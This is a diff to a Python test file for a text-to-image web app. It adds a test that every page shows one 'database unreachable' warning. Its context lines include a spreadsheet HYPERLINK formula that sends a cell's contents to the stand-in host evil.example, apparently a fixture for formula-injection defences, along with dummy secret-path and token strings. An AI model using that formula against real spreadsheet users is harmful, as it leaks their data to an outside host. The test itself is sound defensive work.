@@ -399,6 +399,20 @@ def test_queue_page_shows_counts_executors_and_throughput(app, seeded):
     assert "cuda:0" in list(executors["device"])
 
 
+@pytest.mark.parametrize("page", ["generate", "gallery", "vote", "leaderboard", "queue_page"])
+def test_every_page_says_in_one_line_that_the_database_is_not_reachable(page, monkeypatch, client):
+    """Every page reads the shared, checked store (common.store), the Queue page included, which once
+    opened a store of its own and then showed a generic error."""
+    from t2i.web import common
+
+    monkeypatch.setenv("T2I_DB", "postgresql://t2i_test:t2i_test@127.0.0.1:1/t2i")  # nothing listens on port 1
+    client.be(KEY)
+    at = AppTest.from_file(str(ROOT / "t2i" / "web" / f"{page}.py"), default_timeout=60)
+    at.run()
+    assert not at.exception and not at.error
+    assert [w.value for w in at.warning] == [common.UNREACHABLE]
+
+
 FORMULA = '=HYPERLINK("http://evil.example/?q="&A1,"click")'
 LONG_ERROR = "internal error (OSError: /srv/t2i/checkpoints/secret-path/model.ckpt " + "x" * 200 + ")"
 TOKEN = "operator-token-0123456789abcdef"
